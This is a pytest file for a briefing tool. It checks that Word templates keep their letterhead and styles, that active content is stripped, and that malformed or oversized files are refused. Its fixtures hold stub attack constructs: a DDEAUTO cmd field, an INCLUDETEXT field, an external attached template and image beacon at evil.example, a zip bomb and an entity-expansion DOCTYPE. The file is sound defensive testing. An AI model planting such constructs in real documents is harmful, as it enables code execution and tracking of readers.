"""The desk's Word template: letterhead and styles stay, what runs or fetches goes and is said, what is too large or none is refused."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import pytest
from briefing.talks import desk as matter
from docx.oxml.ns import qn

from legation.briefing import docx as word
from legation.briefing.document import Bullets, Document, Heading, Paragraph
from legation.briefing.docx.styles import style_names
from legation.briefing.docx.template import LARGEST, MOST_PARTS, read_template
from legation.briefing.papers.meeting import meeting_brief
from legation.cli import main
from legation.errors import CannotRead
from legation.language import LANGUAGES, say

PAPER = Document(
    kind="kit",
    name="x",
    lang="fr",
    title="Fiche",
    marking="TLP:AMBER",
    date="1 juin 2019",
    blocks=(Heading("Un"), Paragraph("Texte"), Bullets((Paragraph("a"),))),
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXAMPLE = Path(__file__).parents[2] / "examples" / "mission-site-2024"


def house(*, even: bool = False) -> bytes:
    """Return a house's template: its own Title, a letterhead, a foot, text that is not ours."""
    made = docx.Document()
    made.styles["Title"].font.name = "Marianne"
    made.settings.odd_and_even_pages_header_footer = even
    made.sections[0].header.paragraphs[0].text = "Ministère des câbles"
    made.sections[0].footer.paragraphs[0].text = "12, quai du Port"
    if even:
        made.sections[0].even_page_header.paragraphs[0].text = "Ministère, page paire"
    made.add_paragraph("Texte du modèle")
    data = io.BytesIO()
    made.save(data)
    return data.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return made.getvalue()


def related(parts: dict[str, bytes], of: str, *relations: str) -> None:
    """Add relations to those of a part."""
    folder, _, name = of.rpartition("/")
    path = f"{folder}/_rels/{name}.rels"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    before = parts.get(path, empty)
    before = before if b"</Relationships>" in before else before.replace(b"/>", b"></Relationships>", 1)
    parts[path] = before.replace(b"</Relationships>", "".join(relations).encode() + b"</Relationships>")


def armed() -> bytes:
    """Return a template with everything that runs or fetches: macros, ActiveX, OLE, an attached template, links, fields that read files."""
    parts = parts_of(house())
    types = parts["[Content_Types].xml"]
    macro = b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    types = types.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", macro)
    parts["[Content_Types].xml"] = types.replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    for name in (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "customUI/customUI.xml",
    ):
        parts[name] = b"<x/>" if name.endswith(".xml") else b"MZ\x90"
    related(
        parts,
        "word/document.xml",
        '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    )
    related(
        parts,
        "word/settings.xml",
        f'<Relationship Id="rIdT" Type="{RELATION}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
    )
    settings = parts["word/settings.xml"]
    at = settings.index(b">", settings.index(b"<w:settings")) + 1
    linked = f'<w:attachedTemplate xmlns:r="{RELATION}" r:id="rIdT"/><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>'.encode()
    parts["word/settings.xml"] = settings[:at] + linked + settings[at:]
    header = next(name for name in parts if re.fullmatch(r"word/header\d*\.xml", name) and "câbles".encode() in parts[name])
    related(
        parts,
        header,
        f'<Relationship Id="rIdL" Type="{RELATION}/hyperlink" Target="http://evil.example/" TargetMode="External"/>',
        f'<Relationship Id="rIdI" Type="{RELATION}/image" Target="http://evil.example/beacon.png" TargetMode="External"/>',
        f'<Relationship Id="rIdO" Type="{RELATION}/oleObject" Target="embeddings/oleObject1.bin"/>',
    )
    inside = (
        f'<w:p xmlns:r="{RELATION}" xmlns:o="urn:schemas-microsoft-com:office:office"><w:hyperlink r:id="rIdL"><w:r><w:t>notre site</w:t></w:r></w:hyperlink>'
        '<w:r><w:object><o:OLEObject r:id="rIdO"/></w:object></w:r><w:r><w:pict r:link="rIdI"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "c:\\\\x" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>lu ailleurs</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" DDEAUTO cmd "><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>'
    ).encode()
    parts[header] = parts[header].replace(b"</w:hdr>", inside + b"</w:hdr>")
    return packed(parts)


def styles_of(data: bytes) -> set[str]:
    return {str(style.name) for style in docx.Document(io.BytesIO(data)).styles}


# --- what stays ------------------------------------------------------------------------------------------------------------------------
def test_letterhead_and_styles_stay_and_the_marking_and_the_pages_come_to_them() -> None:
    found = docx.Document(io.BytesIO(word.render(PAPER, house())))
    section = found.sections[0]
    header, footer = (part._element.xml for part in (section.header, section.footer))

    assert found.styles["Title"].font.name == "Marianne"
    assert "Ministère des câbles" in header and "TLP:AMBER" in header
    assert "12, quai du Port" in footer and " PAGE " in footer and " NUMPAGES " in footer
    assert "Texte du modèle" not in [paragraph.text for paragraph in found.paragraphs]


def test_a_template_that_tells_even_pages_apart_has_the_marking_on_them_too() -> None:
    section = docx.Document(io.BytesIO(word.render(PAPER, house(even=True)))).sections[0]

    assert "Ministère, page paire" in section.even_page_header._element.xml
    assert all("TLP:AMBER" in part._element.xml for part in (section.even_page_header, section.even_page_footer))
    assert " PAGE " in section.even_page_footer._element.xml


def test_styles_with_our_names_are_used_and_those_that_lack_are_added_and_said() -> None:
    template = docx.Document(io.BytesIO(house()))
    template.styles.add_style("Legation Lead", 1).font.name = "Marianne"
    data = io.BytesIO()
    template.save(data)
    made = docx.Document(io.BytesIO(word.render(PAPER, data.getvalue())))
    (note,) = read_template(data.getvalue()).notes

    assert made.styles["Legation Lead"].font.name == "Marianne"
    assert set(style_names()) <= {style.name for style in made.styles}
    assert note.id == "document.template.styles"
    assert note.values["count"] == len(set(style_names()) - styles_of(data.getvalue()))


def test_a_template_with_all_our_styles_has_nothing_to_say() -> None:
    whole = word.render(PAPER)

    assert read_template(whole).notes == ()


def test_every_paragraph_of_a_paper_has_a_named_style_whatever_the_template_holds() -> None:
    for template in (None, house()):
        made = docx.Document(io.BytesIO(word.render(meeting_brief(matter(), "A", "en"), template)))
        inside = [paragraph for table in made.tables for cell in table._cells for paragraph in cell.paragraphs]
        for paragraph in (*made.paragraphs, *inside):
            assert paragraph._p.pPr is not None and paragraph._p.pPr.find(qn("w:pStyle")) is not None, paragraph.text


# --- what goes -------------------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("lang", LANGUAGES)
def test_what_runs_or_fetches_is_dropped_and_said_and_the_words_stay(lang: str) -> None:
    read = read_template(armed())
    said = " ".join(say(note, lang) for note in read.notes)  # type: ignore[arg-type]
    made = word.render(PAPER, armed())
    parts = parts_of(made)
    everything = b"".join(parts.values())

    assert [note.id.rpartition(".")[2] for note in read.notes] == ["dropped-macros", "dropped-objects", "dropped-links", "styles"]
    assert "macros" in said
    assert not [name for name in (*parts, *parts_of(read.data)) if re.search("vba|activex|embedding|customui", name, re.IGNORECASE)]
    for trace in (
        b"evil.example",
        b"macroEnabled",
        b"vbaProject",
        b"INCLUDE",
        b"DDEAUTO",
        b"mailMerge",
        b"attachedTemplate",
        b"MZ\x90",
        b"oleObject",
    ):
        assert trace not in everything, trace
    header = docx.Document(io.BytesIO(made)).sections[0].header._element.xml
    assert all(words in header for words in ("Ministère des câbles", "notre site", "lu ailleurs", "simple", "TLP:AMBER"))


def test_no_relation_that_is_gone_is_still_pointed_at() -> None:
    parts = parts_of(word.render(PAPER, armed()))
    for name, data in parts.items():
        if not name.endswith(".xml") or name == "[Content_Types].xml":
            continue
        folder, _, file = name.rpartition("/")
        known = set(re.findall(rb'Id="([^"]+)"', parts.get(f"{folder}/_rels/{file}.rels", b"")))
        pointed = set(re.findall(rb' r:(?:id|embed|link)="([^"]+)"', data))
        assert pointed <= known, name


def test_the_same_template_gives_the_same_bytes() -> None:
    assert word.render(PAPER, armed()) == word.render(PAPER, armed())


# --- what is refused -------------------------------------------------------------------------------------------------------------------
def bomb() -> bytes:
    return packed({**parts_of(house()), "word/media/bomb.png": bytes(60 * 1024 * 1024)})


def entities() -> bytes:
    parts = parts_of(house())
    parts["word/styles.xml"] = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>' + re.sub(
        rb"^<\?xml.*?\?>", b"", parts["word/styles.xml"]
    )
    return packed(parts)


def without(name: str) -> bytes:
    return packed({path: data for path, data in parts_of(house()).items() if path != name})


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "cannot be read"),
        (b"%PDF-1.7", "cannot be read"),
        (b"PK\x03\x04 nothing", "cannot be read"),
        (packed({"a.txt": b"x"}), "cannot be read"),
        (packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x>"}), "cannot be read"),
        (b"PK" + bytes(LARGEST), "4,096 kB at most"),
        (packed({**parts_of(house()), **{f"word/media/{n}.png": b"x" for n in range(MOST_PARTS)}}), str(MOST_PARTS)),
        (bomb(), "40 MB"),
        (entities(), "DOCTYPE"),
        (without("word/document.xml"), "cannot be read"),
        (without("word/styles.xml") + b"rubbish", ""),
    ],
    ids=["empty", "pdf", "no zip", "other zip", "broken", "large", "many", "bomb", "entities", "no document", "no styles"],
)
def test_what_is_no_template_is_refused_or_made_whole(data: bytes, told: str) -> None:
    if not told:
        assert word.render(PAPER, data)[:2] == b"PK"
        return
    with pytest.raises(CannotRead) as error:
        read_template(data)

    assert told in str(error.value)
    assert say(error.value.message, "fr") != say(error.value.message, "en")


# --- the command ------------------------------------------------------------------------------------------------------------------------
def test_the_command_says_what_was_dropped_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "t.docm").write_bytes(armed())
    given = ["--lang", "en", "--lang", "fr", "--formats", "docx", "--out", str(tmp_path / "out"), "--template", str(tmp_path / "t.docm")]
    assert main(["lines", str(EXAMPLE), *given]) == 0

    assert capsys.readouterr().err.count("holds macros") == 1
    made = sorted((tmp_path / "out").glob("*.docx"))
    assert len(made) == 4
    assert all("Ministère des câbles" in docx.Document(str(path)).sections[0].header.paragraphs[0].text for path in made)


def test_the_template_that_the_dossier_holds_is_used_where_none_is_given(tmp_path: Path) -> None:
    import shutil

    shutil.copytree(EXAMPLE, tmp_path / "d")
    (tmp_path / "d" / "files").mkdir(exist_ok=True)
    (tmp_path / "d" / "files" / "template.docx").write_bytes(house())
    assert main(["check", str(tmp_path / "d")]) == 0
    assert main(["lines", str(tmp_path / "d"), "--lang", "en", "--formats", "docx", "--out", str(tmp_path / "out")]) == 0

    (path, _) = sorted((tmp_path / "out").glob("*.docx"), reverse=True)
    assert docx.Document(str(path)).sections[0].header.paragraphs[0].text == "Ministère des câbles"


def test_beside_a_letterhead_the_title_does_not_run_into_the_marking() -> None:
    header = docx.Document(io.BytesIO(word.render(PAPER, house()))).sections[0].header

    assert [paragraph.text.strip() for paragraph in header.paragraphs] == ["Ministère des câbles", "TLP:AMBER"]


def test_a_letterhead_of_an_earlier_section_stays_with_what_follows_it() -> None:
    template = docx.Document(io.BytesIO(house()))
    template.add_section()
    template.add_paragraph("Deuxième section")
    data = io.BytesIO()
    template.save(data)
    made = docx.Document(io.BytesIO(word.render(PAPER, data.getvalue())))

    assert len(made.sections) == 1
    assert "Ministère des câbles" in made.sections[0].header._element.xml
    assert "12, quai du Port" in made.sections[0].footer._element.xml
